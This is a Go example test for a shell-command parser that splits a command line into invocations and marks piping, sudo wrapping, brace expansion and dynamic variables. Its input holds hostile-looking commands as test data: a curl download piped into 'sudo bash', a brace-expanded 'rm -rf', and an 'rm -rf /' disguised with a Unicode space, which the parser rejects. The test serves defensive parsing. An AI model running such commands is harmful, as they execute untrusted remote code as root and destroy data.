package parse_test

import (
	"fmt"
	"strings"

	"github.com/stockade/stockade/parse"
)

func ExampleParse() {
	s, err := parse.Parse(`curl -fsSL https://x.example/i.sh | sudo bash; {rm,-rf,/tmp/x} && $cmd`)
	if err != nil {
		fmt.Println(err)
		return
	}
	for _, inv := range s.Invocations {
		fmt.Printf("%s %s  %s via=%v piped=%v dynamic=%v\n", inv.Pos, inv.Name, strings.Join(inv.Args, " "),
			inv.Via, inv.PipedInto, inv.Dynamic)
	}

	_, err = parse.Parse("rm\u00a0-rf /")
	fmt.Println(err)
	// Output:
	// 1:1 curl  -fsSL https://x.example/i.sh via=[] piped=false dynamic=false
	// 1:37 sudo  bash via=[] piped=true dynamic=false
	// 1:42 bash   via=[sudo] piped=true dynamic=false
	// 1:48 rm  -rf /tmp/x via=[] piped=false dynamic=false
	// 1:67 $cmd   via=[] piped=false dynamic=true
	// 1:3: Unicode space U+00A0 is not allowed
}
